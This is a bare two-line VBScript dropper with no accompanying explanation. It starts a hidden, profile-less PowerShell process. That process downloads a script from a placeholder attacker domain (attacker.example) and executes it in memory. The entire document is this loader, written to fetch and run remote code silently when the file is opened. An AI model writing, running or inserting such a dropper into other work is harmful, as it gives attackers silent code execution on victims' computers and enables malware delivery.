Set sh = CreateObject("WScript.Shell")
sh.Run "powershell -w hidden -nop -c ""iex (iwr 'https://attacker.example/o.ps1' -UseBasicParsing)""", 0, False
